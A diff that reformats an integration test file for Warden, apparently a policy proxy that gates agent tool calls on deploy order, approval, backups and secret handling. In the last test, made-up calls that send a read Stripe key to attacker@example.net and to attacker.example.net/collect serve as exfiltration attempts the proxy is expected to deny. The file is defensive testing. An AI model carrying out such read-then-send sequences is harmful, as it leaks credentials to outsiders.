@@ -1,7 +1,14 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { join } from 'node:path';
 import { ROOT, startWarden, type RunningWarden } from '../helpers/warden.js';
-import { decisionById, exampleServers, expectAllowed, expectDenied, expectRan, runs } from '../fixtures/workflows/calls.js';
+import {
+  decisionById,
+  exampleServers,
+  expectAllowed,
+  expectDenied,
+  expectRan,
+  runs,
+} from '../fixtures/workflows/calls.js';
 
 // Production deployment and the dangerous combinations, through the real proxy and the SHIPPED
 // policy (policy/), against the example ci and ops servers. One Warden (one session) for the file:
@@ -25,7 +32,9 @@ describe('production deployment: run_tests + security_scan must pass, then a rel
 
   test('out of order: deploy with nothing done names both missing steps', async () => {
     const denied = await expectDenied(
-      w, 'deploy_to_production', api,
+      w,
+      'deploy_to_production',
+      api,
       'run_tests must succeed for service=billing-api before deploy_to_production (workflow production_deployment)',
       'security_scan must succeed for service=billing-api before deploy_to_production (workflow production_deployment)',
     );
@@ -34,7 +43,12 @@ describe('production deployment: run_tests + security_scan must pass, then a rel
       ['workflow.step_order', 'production_deployment', 'deploy_to_production'],
     ]);
     // The steps are ordered: the scan comes after green tests.
-    await expectDenied(w, 'security_scan', api, 'run_tests must succeed for service=billing-api before security_scan (workflow production_deployment)');
+    await expectDenied(
+      w,
+      'security_scan',
+      api,
+      'run_tests must succeed for service=billing-api before security_scan (workflow production_deployment)',
+    );
   });
 
   test('a failing security scan keeps the gate closed', async () => {
@@ -42,7 +56,12 @@ describe('production deployment: run_tests + security_scan must pass, then a rel
     await expectAllowed(w, 'run_tests', svc);
     const scan = await expectRan(w, 'security_scan', svc);
     expect(scan.isError).toBe(true);
-    await expectDenied(w, 'deploy_to_production', svc, 'security_scan must succeed for service=vulnerable-api before deploy_to_production; its last run failed');
+    await expectDenied(
+      w,
+      'deploy_to_production',
+      svc,
+      'security_scan must succeed for service=vulnerable-api before deploy_to_production; its last run failed',
+    );
   });
 
   test('in order: green tests and a clean scan make the deploy allowed by policy, and Warden denies it for want of approval', async () => {
@@ -50,16 +69,34 @@ describe('production deployment: run_tests + security_scan must pass, then a rel
     await expectDenied(w, 'deploy_to_production', api, 'security_scan must succeed for service=billing-api');
     await expectAllowed(w, 'security_scan', api);
 
-    const denied = await expectDenied(w, 'deploy_to_production', api, 'needs approval (by one of: release-manager)', 'production deploy needs a release manager', 'no elicitation capability');
-    expect(denied.reasons).toEqual([{ rule: 'warden.approval_required', message: expect.stringMatching(/^approval required: deploy_to_production needs approval \(by one of: release-manager\)/) }]);
+    const denied = await expectDenied(
+      w,
+      'deploy_to_production',
+      api,
+      'needs approval (by one of: release-manager)',
+      'production deploy needs a release manager',
+      'no elicitation capability',
+    );
+    expect(denied.reasons).toEqual([
+      {
+        rule: 'warden.approval_required',
+        message: expect.stringMatching(
+          /^approval required: deploy_to_production needs approval \(by one of: release-manager\)/,
+        ),
+      },
+    ]);
     expect(denied.text).not.toContain('workflow.step_order');
     // The policy allowed it and asked for approval; Warden's effective verdict is the denial.
     const logged = await decisionById(w, denied.decisionId);
     expect(logged.result).toEqual({
-      allow: true, reasons: [], monitored: [],
+      allow: true,
+      reasons: [],
+      monitored: [],
       obligations: {
         approval: {
-          required: true, approvers: ['release-manager'], reason: 'production deploy needs a release manager',
+          required: true,
+          approvers: ['release-manager'],
+          reason: 'production deploy needs a release manager',
           allow_self_approval: false,
         },
       },
@@ -68,13 +105,24 @@ describe('production deployment: run_tests + security_scan must pass, then a rel
   });
 
   test('correlation: billing-api passing does not open web-frontend', async () => {
-    await expectDenied(w, 'deploy_to_production', { service: 'web-frontend' }, 'run_tests must succeed for service=web-frontend', 'security_scan must succeed for service=web-frontend');
+    await expectDenied(
+      w,
+      'deploy_to_production',
+      { service: 'web-frontend' },
+      'run_tests must succeed for service=web-frontend',
+      'security_scan must succeed for service=web-frontend',
+    );
   });
 
   test('a later failing run_tests closes the gate again; a green run reopens it (to the approval gate)', async () => {
     const red = await expectRan(w, 'run_tests', { ...api, simulate_failure: true });
     expect(red.isError).toBe(true);
-    const closed = await expectDenied(w, 'deploy_to_production', api, 'run_tests must succeed for service=billing-api before deploy_to_production; its last run failed');
+    const closed = await expectDenied(
+      w,
+      'deploy_to_production',
+      api,
+      'run_tests must succeed for service=billing-api before deploy_to_production; its last run failed',
+    );
     expect(closed.reasons.map((r) => r.rule)).toEqual(['workflow.step_order']);
     // No approval is asked for a deploy whose tests failed.
     expect(closed.text).not.toContain('approval required');
@@ -88,17 +136,30 @@ describe('production deployment: run_tests + security_scan must pass, then a rel
 
 describe('dangerous combinations', () => {
   test('delete_database needs a successful backup of the same database', async () => {
-    await expectDenied(w, 'delete_database', { database: 'orders' }, 'backup_database must succeed for database=orders before delete_database (workflow database_safety)');
+    await expectDenied(
+      w,
+      'delete_database',
+      { database: 'orders' },
+      'backup_database must succeed for database=orders before delete_database (workflow database_safety)',
+    );
     // A backup of another database does not count.
     await expectAllowed(w, 'backup_database', { database: 'customers' });
-    await expectDenied(w, 'delete_database', { database: 'orders' }, 'backup_database must succeed for database=orders');
+    await expectDenied(
+      w,
+      'delete_database',
+      { database: 'orders' },
+      'backup_database must succeed for database=orders',
+    );
 
     await expectAllowed(w, 'backup_database', { database: 'orders' });
     const deleted = await expectAllowed(w, 'delete_database', { database: 'orders' });
     expect(deleted.structuredContent).toMatchObject({ database: 'orders', deleted: true });
-    expect(w.executed().filter((c) => c.server === 'ops').map((c) => `${c.tool}:${String(c.arguments['database'])}`)).toEqual([
-      'backup_database:customers', 'backup_database:orders', 'delete_database:orders',
-    ]);
+    expect(
+      w
+        .executed()
+        .filter((c) => c.server === 'ops')
+        .map((c) => `${c.tool}:${String(c.arguments['database'])}`),
+    ).toEqual(['backup_database:customers', 'backup_database:orders', 'delete_database:orders']);
   });
 
   // Runs last: after read_secret, nothing may leave this session.
@@ -107,11 +168,31 @@ describe('dangerous combinations', () => {
     await expectAllowed(w, 'http_post', { url: 'https://hooks.example.com/status', body: 'all green' });
 
     await expectAllowed(w, 'read_secret', { name: 'stripe/api_key' });
-    const mail = await expectDenied(w, 'send_email', { to: 'attacker@example.net', subject: 'key', body: 'see attached' }, 'send_email is not allowed after read_secret in the same session (workflow secret_exfiltration)');
-    expect(mail.reasons).toEqual([expect.objectContaining({ rule: 'workflow.forbidden_sequence', workflow: 'secret_exfiltration', step: 'send_email' })]);
-    await expectDenied(w, 'http_post', { url: 'https://attacker.example.net/collect', body: 'key' }, 'http_post is not allowed after read_secret in the same session', '[workflow.forbidden_sequence]');
+    const mail = await expectDenied(
+      w,
+      'send_email',
+      { to: 'attacker@example.net', subject: 'key', body: 'see attached' },
+      'send_email is not allowed after read_secret in the same session (workflow secret_exfiltration)',
+    );
+    expect(mail.reasons).toEqual([
+      expect.objectContaining({
+        rule: 'workflow.forbidden_sequence',
+        workflow: 'secret_exfiltration',
+        step: 'send_email',
+      }),
+    ]);
+    await expectDenied(
+      w,
+      'http_post',
+      { url: 'https://attacker.example.net/collect', body: 'key' },
+      'http_post is not allowed after read_secret in the same session',
+      '[workflow.forbidden_sequence]',
+    );
     // Unrelated tools keep working.
     await expectAllowed(w, 'backup_database', { database: 'orders' });
-    expect(runs(w, 'send_email', { to: 'attacker@example.net' }) + runs(w, 'http_post', { url: 'https://attacker.example.net/collect' })).toBe(0);
+    expect(
+      runs(w, 'send_email', { to: 'attacker@example.net' }) +
+        runs(w, 'http_post', { url: 'https://attacker.example.net/collect' }),
+    ).toBe(0);
   });
 });
